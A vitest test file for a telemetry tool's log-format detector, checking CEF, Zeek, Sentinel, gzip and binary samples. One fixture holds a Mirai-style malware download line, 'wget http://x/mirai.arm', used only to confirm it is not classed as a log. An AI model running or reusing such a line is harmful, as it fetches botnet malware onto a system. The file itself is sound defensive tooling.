import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { detectFile, detectSample } from '../../src/telemetry/detect.js';
import { hasShared, sharedData, tempDir, writeTemp } from './shared.js';

const detect = (name: string, text: string | Buffer) =>
  detectSample(name, Buffer.isBuffer(text) ? text : Buffer.from(text)).format;

describe('format detection', () => {
  it('recognises each reader from the first lines', () => {
    expect(detect('a.txt', 'CEF:0|a|b|c|d|e|5|src=1.1.1.1\n')).toBe('cef');
    expect(
      detect(
        'a.log',
        '<13>Jan  1 00:00:00 fw CEF: 0|a|b|c|d|e|5|x=1\nJan  1 00:00:01 fw CEF:0|a|b|c|d|e|5|x=1\n',
      ),
    ).toBe('cef');
    expect(detect('conn.log', '#separator \\x09\n#set_separator\t,\n#path\tconn\n#fields\tts\n')).toBe(
      'zeek-tsv',
    );
    expect(detect('x.log', '{"ts":1.5,"uid":"C1","id.orig_h":"1.1.1.1","conn_state":"S0"}\n')).toBe(
      'zeek-json',
    );
    expect(detect('x.log', '{"ts":1.5,"uid":"C1","id.orig_h":"1.1.1.1","query":"a.b"}\n')).toBe('zeek-json');
    expect(detect('x.json', '[\n  {\n    "TimeGenerated": "x",\n    "DeviceVendor": "y"\n  }\n]')).toBe(
      'sentinel-json',
    );
    expect(detect('x.json', '{"TimeGenerated":"x","RemoteIP":"1.1.1.1"}\n')).toBe('sentinel-ndjson');
    expect(detect('x.csv', 'TimeGenerated,DeviceVendor,SourceIP\n2024-01-01,a,1.1.1.1\n')).toBe(
      'sentinel-csv',
    );
  });

  it('says none for binaries and null (with a reason) for other text', () => {
    expect(detect('m.arm', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0]))).toBe('none');
    expect(detect('x.bin', Buffer.from('abc\0def'))).toBe('none');
    const readme = detectSample(
      'README.md',
      Buffer.from('# Title\n\nSee `CEF:0|a|b` in the table.\nmore\nmore\n'),
    );
    expect(readme).toEqual({ format: null, reason: 'text in no known log format' });
    // every Zeek log is read (a log no Sentinel table maps is kept in its native table)
    expect(detect('http.log', '#separator \\x09\n#path\thttp\n#fields\tts\n')).toBe('zeek-tsv');
    expect(detect('ssl.log', '{"ts":1.5,"uid":"C1","server_name":"a.b"}\n')).toBe('zeek-json');
    expect(detectSample('eve.json', Buffer.from('{"timestamp":"x","event_type":"flow"}\n')).reason).toMatch(
      /Suricata/,
    );
    expect(detect('bins.sh', '#!/bin/sh\nwget http://x/mirai.arm\n')).toBeNull();
    expect(detect('empty', '')).toBeNull();
    expect(detect('pkg.json', '[{"name":"a","version":"1"}]')).toBeNull();
  });

  it('honours an explicit format, detects gzip logs, rejects unknown overrides', async () => {
    const dir = tempDir();
    const plain = writeTemp(dir, 'weird.txt', 'hello\n');
    expect((await detectFile(plain, 'cef')).format).toBe('cef');
    expect(await detectFile(plain, 'syslog')).toMatchObject({
      format: null,
      reason: expect.stringMatching(/unknown format/),
    });
    const gz = writeTemp(dir, 'conn.log.gz', gzipSync('#separator \\x09\n#path\tconn\n#fields\tts\n'));
    expect(await detectFile(gz)).toEqual({ format: 'zeek-tsv', reason: 'gzip: Zeek TSV header', gzip: true });
    const tgz = writeTemp(dir, 'firmware.tar.gz', gzipSync('binary stuff'));
    expect((await detectFile(tgz)).format).toBe('none');
  });

  it.skipIf(!hasShared)('classifies the reference data', async () => {
    expect((await detectFile(join(sharedData, 'pcap/test7-malicious.pcap'))).format).toBe('none');
    expect((await detectFile(join(sharedData, 'sentinel/cef/VotiroSampleData.txt'))).format).toBe('cef');
    expect((await detectFile(join(sharedData, 'sentinel/README.md'))).format).toBeNull();
    expect(
      (await detectFile(join(sharedData, 'zeek/stratosphere/002-zeek-scenario-port-scanning/conn.log')))
        .format,
    ).toBe('zeek-json');
  });
});
